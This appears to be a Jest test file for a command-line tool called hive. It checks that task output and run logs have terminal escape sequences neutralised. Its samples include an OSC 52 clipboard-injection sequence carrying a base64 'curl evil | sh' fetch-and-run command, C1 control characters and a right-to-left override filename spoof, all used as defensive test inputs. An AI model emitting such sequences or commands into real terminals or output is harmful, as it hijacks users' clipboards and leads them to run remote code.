import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import fc from "fast-check";

import { harmless, writeLine } from "../../../cli/harmless";
import { RunLog } from "../../../cli/pulumi/run-log";
import { coloured } from "../../../cli/terminal";

const esc = "\u001b";
/** Writes "curl evil | sh" into the clipboard of many terminals. */
const osc52 = `${esc}]52;c;Y3VybCBldmlsIHwgc2g=\u0007`;
const c1 = "\u009b2J\u0090q\u009c";

/** A stream that keeps what is written. */
function stream(isTTY: boolean): {
  readonly isTTY: boolean;
  write(text: string): void;
  text: string;
} {
  return {
    isTTY,
    text: "",
    write(text) {
      this.text += text;
    },
  };
}

describe("what a task printed", () => {
  test.each([
    ["a text", "GET /\tä 🐝\nnext", "GET /\tä 🐝\nnext"],
    ["a clipboard's new content", osc52, "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"],
    ["C1 control characters", c1, "\\x9b2J\\x90q\\x9c"],
    ["the cursor going up and a line erased", `${esc}[1A${esc}[2K`, "\\x1b[1A\\x1b[2K"],
    ["a full reset", `${esc}c`, "\\x1bc"],
    ["a line that is written over", "bad\rgood\b!", "bad\\x0dgood\\x08!"],
    ["lines of another system", "one\r\ntwo", "one\ntwo"],
    ["text that reads backwards", "a\u202egnp.exe", "a\\u202egnp.exe"],
    ["a colour that hive does not use", `${esc}[7mx`, "\\x1b[7mx"],
    ["more than one thing in a sequence", `${esc}[31;5mx`, "\\x1b[31;5mx"],
  ])("does not act on a terminal: %s", (_what, text, shown) => {
    const [terminal, pipe] = [stream(true), stream(false)];
    writeLine(terminal, text);
    writeLine(pipe, text);
    expect(terminal.text).toBe(`${shown}\n`);
    expect(pipe.text).toBe(`${text}\n`);
  });

  test("whatever it is, leaves the colours of hive and no other escape sequence", () => {
    const part = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom(esc, osc52, c1, `${esc}[31m`, `${esc}[`, "31m", "\r", "\n"),
    );
    fc.assert(
      fc.property(fc.array(part), (parts) => {
        const shown = harmless(coloured("red", parts.join("")));
        // eslint-disable-next-line no-control-regex -- these are what it looks for
        const rest = shown.replaceAll(/\u001b\[(1|2|22|31|32|33|36|39)m/g, "");
        // eslint-disable-next-line no-control-regex -- the same
        expect(rest).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
        expect(harmless(shown)).toBe(shown);
      }),
    );
  });

  test("does not act when somebody looks at the log of the run", () => {
    const folder = mkdtempSync(join(tmpdir(), "hive-log-"));
    try {
      const log = new RunLog(folder);
      log.write(`the task said: ${osc52}`);
      log.close();
      expect(readFileSync(log.file, "utf8")).toMatch(/the task said: \\x1b\]52;c;/);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
